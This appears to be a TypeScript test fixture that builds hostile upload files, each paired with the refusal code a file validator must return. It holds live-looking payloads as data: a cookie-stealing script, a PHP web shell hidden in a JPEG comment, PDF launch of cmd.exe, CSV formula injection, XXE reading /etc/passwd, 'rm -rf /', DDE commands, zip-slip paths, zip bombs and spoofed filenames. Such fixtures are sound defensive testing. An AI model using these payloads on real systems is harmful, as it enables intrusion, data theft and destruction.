import sharp from 'sharp';
import { docx, odf, type Part, xlsx, zip } from '@/tests/factories/archives';
import { pdf } from '@/tests/factories/files';
import { hostileContainers } from './hostile-containers';
import { hostilePdfs } from './hostile-pdfs';
import { hostilePictures } from './hostile-pictures';

type Sample = [what: string, fileName: string, bytes: Uint8Array, code: string];

const text = (words: string) => Buffer.from(words, 'latin1');
const WRONG = 'file-not-what-it-says';
const TWO = 'file-of-two-kinds';
const RUNS = 'file-with-program';
const NAME = 'file-name-refused';
const KIND = 'file-kind-refused';
const BOMB = 'file-unpacks-too-large';

const EXE = text('MZ\x90\0\x03\0This program cannot be run in DOS mode.\r\r\n$');
const PAGE = text('<!doctype html><script>alert(document.cookie)</script>');
const SVG = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
/** Cut in two, so that no antivirus program takes this source file for a virus. */
const EICAR = text(`${'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR'}${'-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'}`);
const BOX = text('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1');
const LOCKED = Buffer.concat([BOX, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]);
const OLE = Buffer.from('\u0001Ole10Native', 'utf16le');
const ARCHIVE = zip([{ name: 'a.exe', content: EXE }]);
const part = (name: string, content: string | Buffer = 'x'): Part[] => [{ name, content }];
const rels = (target: string) => part('word/_rels/settings.xml.rels', `<Relationship ${target}/>`);

function names(): Sample[] {
  const sound = pdf('nazwa');
  return [
    ['a program called as one', 'faktura.exe', EXE, KIND],
    ['a double ending', 'faktura.pdf.exe', EXE, KIND],
    ['a program dressed as PDF', 'faktura.exe.pdf', sound, 'file-double-ending'],
    ['a script dressed as PDF', 'faktura.js .pdf', sound, 'file-double-ending'],
    ['a screen saver dressed as a picture', 'zdjęcie.scr.jpg', sound, 'file-double-ending'],
    ['a shortcut dressed as text', 'hasła.lnk.txt', text('a'), 'file-double-ending'],
    ['a name that reads backwards', 'faktura\u202efdp.exe.pdf', sound, NAME],
    ['a name with an isolate', 'faktura\u2066fdp.pdf', sound, NAME],
    ['a name with NUL', 'faktura.exe\0.pdf', sound, NAME],
    ['a name with a line end', 'faktura\r\nX-Evil: 1.pdf', sound, NAME],
    ['a name with escape codes', 'faktura\u001b[2J.pdf', sound, NAME],
    ['a name without an ending', 'faktura', sound, KIND],
    ['a name that is an ending', '.pdf', text('a'), WRONG],
    ['a trailing dot', 'faktura.pdf.', sound, KIND],
    ['a stream of NTFS', 'faktura.pdf::$DATA', sound, KIND],
    ['a property of every object', 'faktura.constructor', sound, KIND],
    ['a page', 'strona.html', PAGE, 'file-page'],
    ['a page of another name', 'strona.xhtml', PAGE, 'file-page'],
    ['a vector picture', 'rysunek.svg', SVG, 'file-drawing'],
    ['an archive', 'akta.zip', ARCHIVE, 'file-archive'],
    ['an archive of another kind', 'akta.rar', text('Rar!\x1a\x07\0'), 'file-archive'],
    ['a letter with macros', 'pismo.docm', docx(), KIND],
    ['a table with macros', 'tabela.xlsm', xlsx(), KIND],
    ['an old letter', 'pismo.doc', BOX, 'file-old-office'],
    ['a mail that wraps others', 'list.eml', text('From: a@b.example\r\n\r\n'), KIND],
    ['a mail of Outlook', 'list.msg', BOX, KIND],
    ['a script', 'start.ps1', text('calc'), KIND],
    ['a disk', 'dysk.iso', Buffer.alloc(2_048), KIND],
  ];
}

async function contents(): Promise<Sample[]> {
  const jpeg = await sharp({ create: { width: 9, height: 9, channels: 3, background: '#fff' } })
    .jpeg()
    .toBuffer();
  const png = await sharp(jpeg).png().toBuffer();
  const inComment = (bytes: Buffer) => {
    const length = Buffer.alloc(2);
    length.writeUInt16BE(bytes.length + 2);
    return Buffer.concat([jpeg.subarray(0, 2), text('\xff\xfe'), length, bytes, jpeg.subarray(2)]);
  };
  return [
    ['a program called PDF', 'mapa.pdf', EXE, WRONG],
    ['a page called PDF', 'mapa.pdf', PAGE, WRONG],
    ['a picture called PDF', 'mapa.pdf', png, WRONG],
    ['an archive called PDF', 'mapa.pdf', ARCHIVE, WRONG],
    ['a PDF cut off', 'mapa.pdf', pdf().subarray(0, 30), WRONG],
    ['a PDF behind a page', 'mapa.pdf', Buffer.concat([PAGE, pdf()]), TWO],
    ['a PDF behind a word', 'mapa.pdf', Buffer.concat([text('MZ\n'), pdf()]), TWO],
    ['a program behind a PDF', 'mapa.pdf', Buffer.concat([pdf(), EXE]), TWO],
    ['an archive behind a PDF', 'mapa.pdf', Buffer.concat([pdf(), ARCHIVE]), TWO],
    [
      'a long archive behind a PDF',
      'mapa.pdf',
      Buffer.concat([pdf(), zip(part('a', Buffer.alloc(9_000, 1))), Buffer.alloc(6_000)]),
      TWO,
    ],
    ['a page behind a PDF', 'mapa.pdf', Buffer.concat([pdf(), PAGE]), TWO],
    [
      'a PDF that starts a program',
      'mapa.pdf',
      text('%PDF-1.4\n1 0 obj <</S /Launch /F (cmd.exe)>> endobj\n%%EOF\n'),
      RUNS,
    ],
    [
      'the same without a space',
      'mapa.pdf',
      text('%PDF-1.4\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF\n'),
      RUNS,
    ],
    ['a PDF called picture', 'mapa.jpg', pdf(), WRONG],
    ['a program called picture', 'mapa.png', EXE, WRONG],
    ['a page called picture', 'mapa.png', PAGE, WRONG],
    ['a vector picture called PNG', 'mapa.png', SVG, WRONG],
    ['a PNG called JPEG', 'mapa.jpg', png, WRONG],
    ['a PNG cut off', 'mapa.png', png.subarray(0, -20), WRONG],
    ['an archive behind a picture', 'mapa.jpg', Buffer.concat([jpeg, ARCHIVE]), TWO],
    ['an archive before the very end', 'mapa.jpg', Buffer.concat([jpeg, ARCHIVE, Buffer.alloc(100)]), TWO],
    ['RAR behind a picture', 'mapa.jpg', Buffer.concat([jpeg, text('Rar!\x1a\x07\x01\0')]), TWO],
    ['7z behind a picture', 'mapa.jpg', Buffer.concat([jpeg, text('7z\xbc\xaf\x27\x1c')]), TWO],
    ['a program behind a picture', 'mapa.png', Buffer.concat([png, EXE]), WRONG],
    ['a page in the comment of a picture', 'mapa.jpg', inComment(PAGE), TWO],
    ['PHP in the comment of a picture', 'mapa.jpg', inComment(text('<?php system($_GET[0]);')), TWO],
    ['a PDF in the comment of a picture', 'mapa.jpg', inComment(pdf()), TWO],
    [
      'a script in a TIFF',
      'mapa.tif',
      Buffer.concat([text('II*\0\x08\0\0\0'), Buffer.alloc(20), text('<ScRiPt>')]),
      TWO,
    ],
    [
      'a TIFF that points outside',
      'mapa.tif',
      Buffer.concat([text('II*\0\xff\xff\xff\0'), Buffer.alloc(20)]),
      WRONG,
    ],
    ['a film called HEIC', 'mapa.heic', text('\0\0\0\x18ftypisom\0\0\0\0'), WRONG],
    ['EICAR', 'notatka.txt', EICAR, RUNS],
    ['EICAR called PDF', 'mapa.pdf', EICAR, WRONG],
    ['a page called text', 'notatka.txt', PAGE, TWO],
    ['a page behind a mark of its letters', 'notatka.txt', Buffer.concat([text('\xef\xbb\xbf'), PAGE]), TWO],
    ['a page in UTF-16', 'notatka.txt', Buffer.from('\ufeff  <html><script>', 'utf16le'), TWO],
    ['a page behind a comment', 'notatka.txt', text('<!-- a --> <!-- b --><svg onload=alert(1)>'), TWO],
    ['a script called text', 'notatka.txt', text('#!/bin/sh\nrm -rf /\n'), RUNS],
    ['a batch called text', 'notatka.txt', text('@echo off\r\ndel *'), RUNS],
    ['a program called text', 'notatka.txt', EXE, WRONG],
    ['a table that starts a program', 'tabela.csv', text("nazwa;x\nJan;=cmd|' /C calc'!A0\n"), RUNS],
    ['the same in quotes', 'tabela.csv', text('a,"@SUM+cmd|\'/c calc\'!A1"\n'), RUNS],
    [
      'a bomb of entities',
      'upo.xml',
      text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbb">]><a>&b;</a>'),
      RUNS,
    ],
    ['a reader of other files', 'upo.xml', text('<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'), RUNS],
    [
      'a page called XML',
      'upo.xml',
      text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
      TWO,
    ],
    ['a picture called XML', 'upo.xml', text('<s:svg xmlns:s="http://www.w3.org/2000/svg"/>'), TWO],
    [
      'a script deep in XML',
      'upo.xml',
      text(`<a>${' '.repeat(70_000)}<h:script xmlns:h="http://www.w3.org/1999/xhtml">`),
      RUNS,
    ],
    ['text called XML', 'upo.xml', text('dzień dobry'), WRONG],
  ];
}

function offices(): Sample[] {
  const big = Buffer.alloc(60 * 1024 * 1024);
  const good = docx();
  const shared = Buffer.from(good);
  // The list of the archive gives the second file the place of the first.
  const second = shared.indexOf('PK\x01\x02', shared.indexOf('PK\x01\x02') + 4, 'latin1');
  shared.writeUInt32LE(0, second + 42);
  return [
    ['macros in a letter', 'pismo.docx', docx(part('word/vbaProject.bin')), RUNS],
    [
      'macros by type',
      'pismo.docx',
      docx([], '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
      RUNS,
    ],
    ['macros in a table', 'tabela.xlsx', xlsx(part('xl/vbaProject.bin')), RUNS],
    ['macros of old Excel', 'tabela.xlsx', xlsx(part('xl/macrosheets/sheet1.xml')), RUNS],
    ['a control', 'pismo.docx', docx(part('word/activeX/activeX1.bin')), RUNS],
    ['a program inside', 'pismo.docx', docx(part('word/embeddings/a.exe', EXE)), RUNS],
    [
      'a program packed into an object',
      'pismo.docx',
      docx(part('word/embeddings/oleObject1.bin', OLE)),
      RUNS,
    ],
    [
      'a template from elsewhere',
      'pismo.docx',
      docx(rels('Type="x/attachedTemplate" Target="https://obca.example/a.dotm"')),
      RUNS,
    ],
    [
      'a call of a tool',
      'pismo.docx',
      docx(rels('Type="x/oleObject" Target="mhtml:http://obca.example!x"')),
      RUNS,
    ],
    [
      'DDE in a letter',
      'pismo.docx',
      docx(part('word/footer1.xml', '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>')),
      RUNS,
    ],
    [
      'DDE in a table',
      'tabela.xlsx',
      xlsx(part('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd"/>')),
      RUNS,
    ],
    ['Basic in a letter', 'pismo.odt', odf('text', part('Basic/Standard/Module1.xml')), RUNS],
    ['Python in a table', 'tabela.ods', odf('spreadsheet', part('Scripts/python/a.py')), RUNS],
    ['a path out of the archive', 'pismo.docx', docx(part('../../etc/cron.d/x')), RUNS],
    ['a path of Windows', 'pismo.docx', docx(part('..\\..\\x')), RUNS],
    ['a letter with a password', 'pismo.docx', LOCKED, 'file-encrypted'],
    [
      'a table with a password',
      'tabela.ods',
      odf('spreadsheet', [], '<manifest:encryption-data/>'),
      'file-encrypted',
    ],
    [
      'an archive with a password',
      'pismo.docx',
      docx([{ name: 'word/a.xml', content: 'x', encrypted: true }]),
      'file-encrypted',
    ],
    ['an old letter called new', 'pismo.docx', Buffer.concat([BOX, Buffer.alloc(600)]), WRONG],
    ['any archive called letter', 'pismo.docx', ARCHIVE, RUNS],
    ['a sound archive called letter', 'pismo.docx', zip(part('a.txt')), WRONG],
    ['a table called letter', 'pismo.docx', xlsx(), WRONG],
    ['a drawing called letter', 'pismo.odt', odf('graphics'), WRONG],
    ['a page called letter', 'pismo.docx', PAGE, WRONG],
    ['a bomb', 'pismo.docx', docx(part('word/a.xml', big)), BOMB],
    ['a bomb that lies', 'pismo.docx', docx([{ name: 'word/a.xml', content: big, saysSize: 60_000 }]), BOMB],
    [
      'a bomb of many',
      'pismo.docx',
      docx(Array.from({ length: 10_001 }, (_, n) => ({ name: `word/${n}`, content: '' }))),
      BOMB,
    ],
    ['a bomb of shared bytes', 'pismo.docx', shared, BOMB],
    ['two files of one name', 'pismo.docx', docx(part('word/document.xml')), WRONG],
    [
      'two names of one file',
      'pismo.docx',
      docx([{ name: 'word/a.xml', content: 'x', localName: 'word/b.xml' }]),
      WRONG,
    ],
    ['a program before a letter', 'pismo.docx', Buffer.concat([EXE, good]), WRONG],
    ['a letter before a program', 'pismo.docx', Buffer.concat([good, EXE]), TWO],
    ['two letters in a row', 'pismo.docx', Buffer.concat([good, good]), TWO],
    ['a letter without its list', 'pismo.docx', good.subarray(0, -30), TWO],
  ];
}

/** Files for an attack, each with the refusal that must meet it. */
export async function hostileFiles(): Promise<Sample[]> {
  return [
    ...names(),
    ...(await contents()),
    ...(await hostilePictures()),
    ...hostilePdfs(),
    ...offices(),
    ...hostileContainers(),
  ];
}
